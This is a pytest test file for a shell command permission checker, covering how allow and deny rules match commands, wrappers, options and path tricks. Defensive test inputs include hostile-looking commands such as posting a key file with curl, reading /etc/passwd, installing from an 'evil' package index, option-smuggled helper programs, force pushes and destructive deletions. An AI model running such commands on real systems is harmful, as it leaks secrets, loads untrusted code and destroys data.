"""Rules on commands: what a pattern vouches for, what it finds, and what may be offered as a rule."""

import pytest

from treadle import allow, deny
from treadle.errors import ConfigurationError
from treadle.shell.border import border_of
from treadle.shell.judging import analyse, changes_nothing, reads_only
from treadle.shell.rules import CommandPattern, suggested


def allowed(source: str, *patterns: str) -> bool:
    line = analyse(source)
    rules = [CommandPattern.parse(one) for one in patterns]
    return line.is_understood and all(
        any(rule.allows(one) for rule in rules) for one in line.invocations if not one.via
    )


def allowed_beside_readers(source: str, *patterns: str) -> bool:
    rules = [CommandPattern.parse(one) for one in patterns]
    outer = [one for one in analyse(source).invocations if not one.via]
    return all(changes_nothing(one) or any(rule.allows(one) for rule in rules) for one in outer)


def forbidden(source: str, pattern: str) -> bool:
    return any(CommandPattern.parse(pattern).forbids(one) for one in analyse(source).invocations)


@pytest.mark.parametrize(
    ("source", "patterns", "is_allowed"),
    [
        ("git log --oneline", ["git log:*"], True), ("git log --oneline", ["git log *"], True), ("git log", ["git log:*"], True),
        ("git --no-pager log -3", ["git log:*"], True), ("git -P log", ["git --no-pager log:*"], True), ("git -P push", ["git log:*"], False),
        ("git -P -c a.b=c log", ["git log:*"], False), ("git logs", ["git log:*"], False), ("git  'log'", ["git log"], True),
        ("git log -5", ["git log"], False), ("git log; id", ["git log:*"], False), ("git log | head -3", ["git log:*"], False),
        ("git log | head -3", ["git log:*", "head:*"], True), ("git log --output=x", ["git log:*"], False),
        ("git log --output=x", ["git log --output=x"], True), ("./git log", ["git log:*"], False), ("git log $(id)", ["git log:*", "*"], False),
        ("env -i git log", ["env:*", "git log:*"], False), ("env git log", ["git log:*"], True), ("timeout 60 make test", ["make test:*"], True),
        ("make test", ["timeout 60 make test"], True), ("time -p make test", ["make test:*"], False), ("X=1 make test", ["make test:*"], False),
        ("X=1 make test", ["X=* make test:*"], True), ("X=1 make test", ["X=1 make test:*"], True), ("X=2 make test", ["X=1 make test:*"], False),
        ("env X=1 Y=2 make test", ["X=* make test:*"], False), ("timeout 5 env X=1 nice make test", ["X=* make test:*"], True),
        ("make test", ["X=* make test:*"], True), ("PATH=x make test", ["PATH=* make test:*"], False), ("CI=1 make test", ["make test:*"], True),
        ("python -m pytest", ["python:*"], False), ("python -m pytest", ["python -m pytest"], True), ("python3", ["python3"], False),
        ("cat f | python3 -", ["cat:*", "python3 -"], False), ("python3 -u <<< 'import os'", ["python3 -u"], False), ("bash -s < f", ["bash -s"], False),
        ("node <<'E'\nx\nE", ["node"], False), ("python3 -c pass", ["python3 -c pass"], True), ("python3 -um pytest", ["python3 -um pytest"], True),
        ("perl -ne print f", ["perl -ne print f"], True), ("bash -ec ls", ["bash -ec ls"], True), ("sh run.sh", ["sh run.sh"], True), ("make", ["make"], True),
        ("npm run test", ["npm run *"], True), ("npm run test-unit", ["npm run test*"], True), ("npm run test rm", ["npm run test*"], False),
        ("rm x", ["*"], True), ("rm build/a/b", ["rm build/*"], True), ("rm build/../src/main.py", ["rm build/*"], False),
        ("rm build/a/../../src/main.py", ["rm build/*"], False), ("rm build/..", ["rm build/*"], False), ("rm build/../src/a", ["rm build/../src/*"], True),
        ("rm build/../src/../a", ["rm build/../src/*"], False), ("rm build/a..b", ["rm build/*"], True),
        ("my-tool --out=build/../x", ["my-tool --out=*"], False), ("my-tool a:../x", ["my-tool a:*"], False), ("./scripts/lint", ["./scripts/*"], True),
        ("./scripts/../evil", ["./scripts/*"], False), ("./scripts/a/../../evil x", ["./scripts/*:*"], False),
    ],
)  # fmt: skip
def test_a_rule_vouches_for_each_simple_command_by_its_words(source, patterns, is_allowed):
    assert allowed(source, *patterns) is is_allowed


@pytest.mark.parametrize(
    "source",
    [
        "rm x", "/bin/rm x", "\\rm x", "'r'm x", "ls; rm x", "ls | rm x", "(rm x)", "sudo rm x", "sudo -u bob rm x", "env A=1 rm x",
        "timeout 5 rm x", "xargs rm", "find . -exec rm {} ';'", "bash -c 'rm x'", "bash -c \"sh -c 'rm x'\"", "eval 'rm x'", "busybox rm x", "time rm x", "X=1 rm x", "PATH=. rm x", "env X=1 nice rm x", "timeout -k 1 5 bash -c 'X=1 nice rm x'", "echo $?; rm x", "env -S 'rm x'", "ssh host 'rm x'", "true && " * 30 + "rm x", "rm *", "git bisect run rm x",
    ],
)  # fmt: skip
def test_a_rule_that_forbids_finds_a_program_behind_each_wrapper_and_spelling(source):
    assert forbidden(source, "rm:*")


@pytest.mark.parametrize(
    ("source", "pattern"),
    [
        ("rm -rf x", "rm -rf:*"), ("rm -fr x", "rm -rf:*"), ("rm -r -f x", "rm -rf:*"), ("rm x -rf", "rm -rf:*"),
        ("rm --recursive --force x", "rm -rf:*"), ("rm --rec -f x", "rm -rf:*"), ("git -C x push", "git push:*"),
        ("git --no-pager push origin", "git push:*"), ("git push --force", "git push --force:*"), ("git push origin -f", "git push --force:*"),
    ],
)  # fmt: skip
def test_a_rule_that_forbids_finds_options_in_any_order_and_form(source, pattern):
    assert forbidden(source, pattern)


@pytest.mark.parametrize(
    ("source", "pattern"),
    [("timeout 5 make", "timeout:*"), ("time make", "time:*"), ("env X=1 make", "env:*"), ("make", "timeout 5 make"), ("X=1 make", "X=* make:*"), ("nice make", "nice")],
)  # fmt: skip
def test_a_rule_that_forbids_finds_what_only_starts_a_program_and_its_program(source, pattern):
    assert forbidden(source, pattern)


@pytest.mark.parametrize(("source", "pattern"), [("ls rm", "rm:*"), ("rm x", "rm -rf:*"), ("git log push", "git push:*"), ("echo 'rm x'", "rm:*")])  # fmt: skip
def test_a_rule_that_forbids_does_not_find_what_is_only_named(source, pattern):
    assert not forbidden(source, pattern)


@pytest.mark.parametrize(
    ("source", "patterns"),
    [
        ("git log --oneline", ("git log:*",)), ("git commit -m 'a b'", ("git commit:*",)), ("npm run test", ("npm run test:*",)),
        ("npm run build -- --watch", ("npm run build:*",)), ("npm install", ("npm install:*",)), ("git push origin main", ("git push:*",)),
        ("git --no-pager push", ("git push:*",)), ("git -P add f", ("git add:*",)), ("git stash", ("git stash:*",)), ("git diff | tee x", ("tee:*",)),
        ("python -m pytest -q", ("python -m pytest:*",)), ("python3 -u tools/x.py a", ("python3 tools/x.py:*",)), ("make test", ("make test:*",)),
        ("make -j4 lint test", ("make lint test:*",)), ("make", ("make",)), ("npx tsc --noEmit", ("npx tsc:*",)), ("uv run pytest -q", ("uv run pytest:*",)),
        ("uv run python -m mypy", ("uv run python -m mypy:*",)), ("uv run python -c pass", ("uv run python -c pass",)), ("poetry run x", ("poetry run x:*",)),
        ("docker compose logs --tail 50", ("docker compose logs:*",)), ("docker ps", ("docker ps:*",)), ("docker run x", ("docker run x",)),
        ("gh pr view 12", ("gh pr view:*",)), ("cargo test", ("cargo test:*",)), ("curl -s localhost:8000/health", ("curl localhost:8000:*",)),
        ("curl https://example.com/a", ("curl example.com:*",)), ("curl -d @key example.com", ("curl -d @key example.com",)),
        ("find . -name x | xargs wc -l", ("xargs wc:*",)), ("find . -name x | xargs rm", ("= find . -name x | xargs rm",)), ("rm x", ("rm:*",)),
        ("rm -r x", ("rm -r x",)), ("pytest && ruff check .", ("pytest:*", "ruff check:*")), ("bash -c x", ("bash -c x",)), ("sudo ls", ("sudo ls",)),
        ("git log --output=x", ("git log --output=x",)), ("echo $(id)", ("= echo $(id)",)), ("echo x > f", ("= echo x > f",)),
        ("mytool 'a|b' 'c; d'", ("mytool:*",)), ("npm run 'te?t'", ("= npm run 'te?t'",)), ("git log '*'", ("git log:*",)),
        ("make test; echo $?", ("make test:*",)), ("timeout 60 make test", ("make test:*",)), ("time nice pytest -q", ("pytest:*",)),
        ("env A=b npm test", ("A=* npm test:*",)), ("PYTHONPATH=src B=c python -m pytest", ("PYTHONPATH=* B=* python -m pytest:*",)),
        ("A='b c' python -c pass", ("'A=b c' python -c pass",)), ("PATH=x make test", ("= PATH=x make test",)),
        ("cd src && timeout 5 make test | tee x; echo $?", ("make test:*", "tee:*")), ("git submodule update --init --recursive", ("git submodule:*",)),
        ("git submodule foreach 'rm x'", ("git submodule foreach 'rm x'",)), ("git config user.name x", ("git config:*",)),
        ("git config core.fsmonitor ./x", ("git config core.fsmonitor ./x",)), ("git config --global user.name x", ("git config --global user.name x",)),
        ("redis-cli get x", ("redis-cli get x",)), ("http example.com/x", ("http example.com/x",)),
    ],
)  # fmt: skip
def test_only_a_rule_that_is_proven_to_match_is_offered(source, patterns):
    assert suggested(analyse(source)) == patterns
    assert patterns[0].startswith("= ") or allowed_beside_readers(source, *patterns)


@pytest.mark.parametrize(
    "text",
    ["", "  ", "git log; id", "git 'log", "a && b", "a $(b)", 'a "$(b)"', "a `b`", "rm:*)", "git log)", "git diff > x", "cat <x", "rm\u200b:*",
     "git\u00a0log:*", "a\rb", "a 'b\x00'", "ls:*foo", "'ls", "a \\"],
)  # fmt: skip
def test_a_pattern_that_is_no_single_command_is_refused(text):
    with pytest.raises(ConfigurationError, match="command pattern"):
        CommandPattern.parse(text)


@pytest.mark.parametrize(
    ("text", "source"), [("grep 'a|b' f", "grep 'a|b' f"), ('grep "a;b"', "grep a\\;b"), ("echo \\(", "echo '('"), ("ls '<x>'", "ls \\<x\\>")]
)  # fmt: skip
def test_signs_of_the_shell_in_quotes_are_text_in_a_pattern_too(text, source):
    assert allowed(source, text)
    assert forbidden(source, text)


def test_a_pattern_with_wildcards_says_so():
    assert (
        CommandPattern.parse("rm 'd*'").covers
        == "the command `rm 'd*'` in the root folder, where `*`, `?` and `[` match any text within a word, but no `..`"
    )
    assert CommandPattern.parse("rm d").covers == "only the command `rm d` in the root folder"
    assert CommandPattern.parse("= ls | sh").covers == "only the line `ls | sh` in the root folder"
    assert "it runs any code in this project" in CommandPattern.parse("python -m pytest:*").covers


@pytest.mark.parametrize(
    ("text", "form"),
    [
        ("python:*", "shell(python -m pytest:*)"), ("python3 -m:*", "shell(python3 -m pytest:*)"), ("bash:*", "shell(bash scripts/x:*)"),
        ("node:*", "shell(node calc.py:*)"), ("curl:*", "shell(curl example.com:*)"), ("npx:*", "shell(npx tsc:*)"), ("uv run:*", "shell(uv run pytest:*)"),
        ("wget example.com:*", "without `:*`"), ("sudo:*", "without `:*`"), ("env:*", "without `:*`"), ("xargs:*", "without `:*`"), ("sqlite3:*", "without `:*`"), ("m4:*", "without `:*`"), ("python3", "shell(python3 calc.py)"), ("bash -s", "shell(bash calc.py)"),
        ("deno:*", "shell(deno test:*)"), ("python -u x.py:*", "shell(python x.py:*)"), ("docker run:*", "without `:*`"), ("sed -i:*", "without `:*`"),
        ("make -f x:*", "without `:*`"), ("git worktree add:*", "without `:*`"), ("npm --prefix x test:*", "without `:*`"), ("timeout * make", "without `*`"),
        ("git -C src log:*", "shell(git log:*)"), ("git -C src add x", "shell(git add x)"), ("export:*", "shell(= export)"),
        ("PATH=* make:*", "shell(= PATH=x make)"), ("PATH=x make", "shell(= PATH=x make)"), ("echo $X", "shell(= echo $X)"), ("rm ~/x", "shell(= rm ~/x)"), ("for x", "shell(= for x)"), ("source x", "shell(= source x)"),
    ],
)  # fmt: skip
def test_a_rule_that_can_match_nothing_is_refused_with_the_form_that_would(text, form):
    with pytest.raises(ConfigurationError, match="allows nothing") as refused:
        allow(f"shell({text})")
    assert form in str(refused.value)
    deny(f"shell({text})")


def test_git_in_another_folder_is_git_after_a_change_of_folder():
    there = analyse("git -C src add a").invocations

    assert [(one.words, one.folders) for one in there] == [(("cd", "src"), (".",)), (("git", "add", "a"), ("src",))]
    assert reads_only(analyse("git -C src log -1"))
    assert border_of("git -C src add x") == border_of("cd src && git add x") != ()
    for line in ("git -C $X log", "git -C s* log", "git -C a -C b log", "git -C '' log", "git -C -x log"):
        assert not reads_only(analyse(line)), line


@pytest.mark.parametrize("make", [allow, deny])
def test_a_rule_that_names_no_program_is_refused(make):
    with pytest.raises(ConfigurationError, match="Write `shell` for every line"):
        make("shell(:*)")


@pytest.mark.parametrize(
    "text",
    ["git:*", "git config:*", "git stash:*", "git log -p:*", "/usr/bin/git log:*", "docker:*", "docker compose:*", "cargo +nightly test:*", "make:*", "uv:*", "bundle:*", "awk:*", "cd:*", "echo '$X'", "rm build/*", "p*:*"],
)  # fmt: skip
def test_a_rule_that_can_match_something_is_taken(text):
    allow(f"shell({text})")


@pytest.mark.parametrize(
    ("source", "pattern", "is_allowed"),
    [
        ("python -m pytest tests/x.py -q", "python -m pytest:*", True), ("python -u -m pytest", "python -m pytest:*", True),
        ("python -m pip install x", "python -m pytest:*", False), ("python -c pass", "python -m pytest:*", False),
        ("python -m pytest | sh", "python -m pytest:*", False), ("make test", "make test:*", True), ("make -j4 test", "make test:*", True),
        ("make test deploy", "make test:*", False), ("make SHELL=./x test", "make test:*", False), ("make -f x test", "make test:*", False),
        ("npm run build -- a", "npm run build:*", True), ("npm run deploy", "npm run build:*", False), ("npx -c id", "npx tsc:*", False),
        ("uv run --with x pytest", "uv run pytest:*", False), ("curl -s https://example.com/a?b=c", "curl example.com:*", True),
        ("curl example.com evil.org", "curl example.com:*", False), ("curl example.com.evil.org", "curl example.com:*", False),
        ("curl -o x example.com", "curl example.com:*", False), ("curl -K x example.com", "curl example.com:*", False),
        ("curl --upload-file x example.com", "curl example.com:*", False), ("curl file:///etc/passwd", "curl example.com:*", False),
        ("xargs wc -l", "xargs wc:*", True), ("xargs rm", "xargs wc:*", False), ("docker ps -a", "docker ps:*", True),
        ("docker -H x ps", "docker ps:*", False), ("docker ps -H tcp://evil:1", "docker ps:*", False),
        ("npm run build --script-shell=./x", "npm run build:*", False), ("npm run build --script-sh ./x", "npm run build:*", False),
        ("npm run build --silent -- --script-shell=./x", "npm run build:*", True), ("npm test --node-options=--require=./x", "npm test:*", False),
        ("npm test --if-present -w a", "npm test:*", True), ("pnpm test --config.script-shell=./x --dir ../x", "pnpm test:*", False),
        ("yarn test --init-file=./x", "yarn test:*", False), ("bun run build --preload ./x", "bun run build:*", False),
        ("pnpm test --silent", "pnpm test:*", True), ("kubectl get pods --kubeconfig=./x", "kubectl get:*", False),
        ("kubectl get pods -n dev", "kubectl get:*", True), ("kubectl get pods --context dev", "kubectl get pods --context dev:*", True),
        ("kubectl get pods --context dev --context prod", "kubectl get pods --context dev:*", False),
        ("cargo test --config=build.rustc-wrapper=./x", "cargo test:*", False), ("cargo test -- --config", "cargo test:*", True),
        ("go test -exec ./x ./...", "go test:*", False), ("go vet --vettool=./x ./...", "go vet:*", False),
        ("pip install --index-url http://evil x", "pip install:*", False), ("pip install --index-u http://evil x", "pip install:*", False),
        ("pip install -r requirements.txt", "pip install:*", True), ("curl -sSL example.com", "curl example.com:*", False),
        ("curl --loc example.com", "curl example.com:*", False), ("curl -sSL example.com", "curl example.com -L:*", True),
        ("curl example.com", "curl example.com -L:*", True), ("curl -L evil.org", "curl example.com -L:*", False),
        ("curl --url=evil.org example.com", "curl example.com:*", False), ("curl --url evil.org example.com", "curl example.com:*", False),
        ("curl -sd@f example.com", "curl example.com:*", False), ("curl --data=@f example.com", "curl example.com:*", False),
        ("curl -w '%output{f}' example.com", "curl example.com:*", False), ("curl -sLo x example.com", "curl example.com -L:*", False),
        ("curl -sLo x example.com", "curl example.com -L -o:*", True), ("curl --output=x example.com", "curl example.com:*", False),
        ("git fetch --upload-pack=x", "git fetch:*", False), ("rm -r x", "rm:*", False), ("sed -n p f", "sed:*", True), ("sed -i s/a/b/ f", "sed:*", False),
    ],
)  # fmt: skip
def test_a_rule_by_kind_means_its_kind_and_no_other(source, pattern, is_allowed):
    assert allowed(source, pattern) is is_allowed


@pytest.mark.parametrize(
    ("source", "patterns"),
    [
        ("curl -sSL example.com/a", ("curl example.com -L:*",)), ("wget example.com", ("wget example.com",)), ("npm run x --shell=./y", ("npm run x --shell=./y",)),
        ("kubectl get pods --kubeconfig x", ("kubectl get pods --kubeconfig x",)), ("ssh host ls", ("ssh host ls",)),
        ("docker compose up -d", ("docker compose up -d",)), ("docker compose logs -f", ("docker compose logs:*",)),
    ],
)  # fmt: skip
def test_a_kind_is_offered_only_where_it_says_which_program_settings_and_server_are_used(source, patterns):
    assert suggested(analyse(source)) == patterns


LOSING = [
    "git fetch origin --prune", "git fetch origin '+refs/heads/*:refs/heads/*'", "git fetch -p", "git fetch --pru", "git fetch -vf origin a:b",
    "git fetch --refmap=+a:b", "git fetch --depth=1", "git --no-pager fetch -P", "git commit --amend", "git commit -m -- --amend", "git commit --no-verify -m x",
    "git commit -anm x", "git commit --ame", "git add -f x", "git add -Af", "git pull --force", "git pull origin +a:b", "git push --force",
    "git push -uf origin main", "git push --force-with-lease", "git push origin +main", "git push origin :main", "git push -d origin x",
    "git push --mirror", "git push --no-verify", "git push origin -- +main", "git tag -d x", "git tag -f x", "git branch -D x", "git branch -d x",
    "git branch -M x", "git stash drop", "git stash clear", "git checkout -- .", "git checkout .", "git checkout -f", "git checkout main -- f",
    "git switch --discard-changes x", "git switch -C x", "git reset --hard", "git merge --abort", "git worktree remove x", "git mv -f a b",
    "git rm -f x", "git update-ref -d x", "git update-ref refs/heads/x 0000000000000000000000000000000000000000", "git checkout ./",
    "git checkout ':(top)'", "git checkout HEAD ./", "git checkout notes.txt", "git checkout HEAD notes.txt", "git checkout HEAD notes",
]  # fmt: skip


@pytest.mark.parametrize("source", LOSING)
def test_a_rule_by_prefix_leaves_what_git_takes_away_to_a_question(source):
    subcommand = source.replace("--no-pager ", "").split()[1]
    assert not allowed(source, f"git {subcommand}:*")
    assert not allowed(source, "git:*")
    assert not allowed(source, "*")


@pytest.mark.parametrize("source", LOSING)
def test_only_the_same_command_is_offered_where_git_takes_something_away(source):
    (pattern,) = suggested(analyse(source)) or ("",) if "*" not in source else ("",)
    assert not pattern.endswith(":*")
    assert not pattern or allowed(source, pattern)


@pytest.mark.parametrize(
    ("source", "pattern", "is_allowed"),
    [
        ("git push --force origin main", "git push --force:*", True), ("git push --force origin main", "git push --force origin main", True),
        ("git push --force --no-verify", "git push --force:*", False), ("git push --force origin +main", "git push --force:*", False),
        ("git commit --amend -m x", "git commit --amend:*", True), ("git tag -d x", "git tag -d *", True),
        ("git push -u origin main:main", "git push:*", True), ("git fetch -j 4 origin a:b", "git fetch:*", True),
        ("git fetch --all --tags", "git fetch:*", True), ("git add -- -f", "git add:*", False), ("git add -A", "git add:*", True),
        ("git commit -am 'more --amend'", "git commit:*", True), ("git stash", "git stash:*", True), ("git checkout -b x", "git checkout:*", True),
        ("git checkout -b x origin/main", "git checkout:*", True), ("git checkout feature/x", "git checkout:*", True),
        ("git checkout -", "git checkout:*", True), ("git restore .", "git:*", False), ("git clean -n", "git:*", False),
        ("git restore --staged x", "git restore:*", True), ("git commit -mnow", "git commit:*", True), ("git commit -amnow", "git commit:*", True),
        ("git commit -nmx", "git commit:*", False), ("git tag -mfix v1", "git tag:*", True), ("git reset x", "git reset:*", True),
        ("mytool --force", "mytool:*", True),
    ],
)  # fmt: skip
def test_a_rule_that_names_such_a_word_allows_it(source, pattern, is_allowed):
    assert allowed(source, pattern) is is_allowed


def test_a_rule_says_that_it_leaves_out_what_takes_away():
    end = "but no option that writes elsewhere or starts a program, or makes git delete or overwrite something, and no redirection to a file"
    assert CommandPattern.parse("git fetch:*").covers == f"`git fetch` with any arguments, {end}"


@pytest.mark.parametrize(
    ("source", "pattern"),
    [
        ("kubectl -n prod delete pod x", "kubectl delete:*"), ("kubectl --context prod delete ns x", "kubectl delete:*"),
        ("aws --profile prod --region r s3 rm s3://x", "aws s3 rm:*"), ("npm -w pkg publish", "npm publish:*"),
        ("npm run --workspace pkg deploy", "npm run deploy:*"), ("docker compose -f x.yml down -v", "docker compose down:*"),
        ("docker --context x compose -f x.yml down", "docker compose down:*"), ("helm -n prod uninstall x", "helm uninstall:*"),
        ("gh -R o/r pr merge 1", "gh pr merge:*"), ("gh pr -R o/r merge 1", "gh pr merge:*"), ("cargo +nightly publish", "cargo publish:*"),
        ("cargo --color never publish", "cargo publish:*"), ("make -C x deploy", "make deploy"), ("make CC=gcc deploy", "make deploy:*"),
        ("make -j4 clean deploy", "make deploy:*"), ("make clean deploy x", "make deploy"), ("git push -o x origin main", "git push origin main:*"),
        ("git push -uo x origin main", "git push origin main"), ("git -C push push origin", "git push origin:*"), ("git -C d push -- origin", "git push origin"),
        ("apt -o a=b install y", "apt install:*"), ("systemctl -H h stop x", "systemctl stop:*"), ("terraform -chdir=x destroy", "terraform destroy:*"),
    ],
)  # fmt: skip
def test_a_subcommand_is_found_behind_options_with_separate_values(source, pattern):
    assert forbidden(source, pattern)


@pytest.mark.parametrize(
    ("source", "pattern"),
    [
        ("git commit -n -m x", "git commit --no-verify:*"), ("git commit --no-verify", "git commit -n:*"), ("git commit -anm x", "git commit --no-verify:*"),
        ("git push --force-with-lease", "git push --force*"), ("git push -f", "git push -*"), ("git push origin +main", "git push --force:*"),
        ("git push origin +main", "git push -f:*"), ("git push origin :main", "git push --delete:*"), ("git push origin HEAD:main", "git push origin main:*"),
        ("git push origin +HEAD:refs/heads/main", "git push origin main"), ("git branch -D x", "git branch --delete --force:*"),
        ("git branch --delete --force x", "git branch -D:*"), ("git branch -df x", "git branch -D:*"), ("kubectl --namespace=prod get x", "kubectl -n:*"),
        ("kubectl -n prod delete x", "kubectl delete -n prod:*"), ("kubectl -nprod delete x", "kubectl delete -n prod:*"),
        ("kubectl --namespace=prod delete x", "kubectl delete -n prod:*"), ("docker run --volume=/ x", "docker run -v /:*"),
        ("git commit -m -- --amend", "git commit --amend:*"), ("git push -o -- --force origin", "git push --force:*"),
        ("git push -o -- --force origin", "git push origin:*"), ("docker run --name -- --privileged x", "docker run --privileged:*"),
        ("docker run x -v /", "docker run -v /:*"), ("kubectl --namespace x delete --all y", "kubectl delete -a:*"),
    ],
)  # fmt: skip
def test_an_option_is_found_in_each_of_its_forms_and_with_its_value(source, pattern):
    assert forbidden(source, pattern)


@pytest.mark.parametrize(
    ("source", "pattern"),
    [
        ("git push", "git * main"), ("git commit -m push", "git push:*"), ("git --no-pager log push", "git push:*"), ("git log push", "git push:*"),
        ("kubectl get delete", "kubectl delete:*"), ("docker run -p 80:80 x", "docker run --privileged:*"), ("git branch -d x", "git branch -D:*"),
        ("git push --force-with-lease", "git push --force:*"), ("git push origin main next", "git push origin main"), ("npm test deploy", "npm deploy:*"),
        ("kubectl -n dev delete x", "kubectl delete -n prod:*"), ("git push --no-verify=x", "git push --force:*"), ("make deploys", "make deploy:*"),
        ("git -C push status", "git push origin:*"),
    ],
)  # fmt: skip
def test_other_commands_are_not_found(source, pattern):
    assert not forbidden(source, pattern)


@pytest.mark.parametrize(
    ("source", "is_found"), [("git push origin main", True), ("git --no-pager push x y main", True), ("git main", True), ("git push origin", False)]
)  # fmt: skip
def test_a_star_by_itself_is_any_number_of_words(source, is_found):
    assert forbidden(source, "git * main") is is_found


def test_a_value_that_looks_like_the_subcommand_is_found_too():
    assert forbidden("kubectl -n delete get pods", "kubectl delete:*")
